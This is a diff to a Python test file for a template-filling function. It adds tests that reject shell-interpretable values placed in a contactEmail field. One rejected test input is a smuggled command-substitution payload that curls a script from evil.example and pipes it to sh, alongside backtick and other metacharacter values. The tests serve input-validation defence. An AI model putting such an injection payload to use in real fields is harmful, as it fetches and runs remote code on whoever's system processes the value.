@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from controller.kinds.template import VARIABLES, filled_in, variables_in
+from controller.kinds.template import VARIABLES, UnsafeValue, filled_in, safe_value, variables_in
 from tests.unit.kinds.small_fleet import complaints, items
 
 SCRIPT = (
@@ -50,8 +50,33 @@ def test_a_variable_without_a_value_is_an_error() -> None:
         filled_in("{{ role }}", {})
 
 
-@given(st.text(), st.sampled_from(sorted(VARIABLES)), st.text())
+PLAIN = st.from_regex(r"[A-Za-z0-9@._:,/+-]*", fullmatch=True)
+
+
+@given(st.text(), st.sampled_from(sorted(VARIABLES)), PLAIN)
 def test_values_are_put_in_as_they_are(before: str, name: str, value: str) -> None:
     text = f"{before}{{{{ {name} }}}}"
     if not list(variables_in(before)):
         assert filled_in(text, {name: value}) == f"{before}{value}"
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["$(curl${IFS}evil.example|sh)@x.yz", "`id`", "a b", "a;b", "a\nb", "x\n", "$HOME", "a'b", 'a"b',
+     "a\\b", "a|b", "a&b", "a>b", "a*", "~", "é", "\u202e", "a#b", "%PATH%", "a!b", "a(b", "a{b"],
+)  # fmt: skip
+def test_what_a_shell_could_read_as_more_than_text_is_not_put_in(value: str) -> None:
+    with pytest.raises(UnsafeValue, match="contactEmail is") as refused:
+        filled_in("MAIL={{ contactEmail }}", {"contactEmail": value})
+    assert refused.value.fix == "correct it, or leave contactEmail out"
+    assert filled_in("no variable", {"contactEmail": value}) == "no variable"
+
+
+@given(st.text())
+def test_what_is_put_in_has_no_other_character(value: str) -> None:
+    plain = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789@._:,/+-")
+    if set(value) <= plain:
+        assert safe_value("role", value) == value
+    else:
+        with pytest.raises(UnsafeValue):
+            safe_value("role", value)
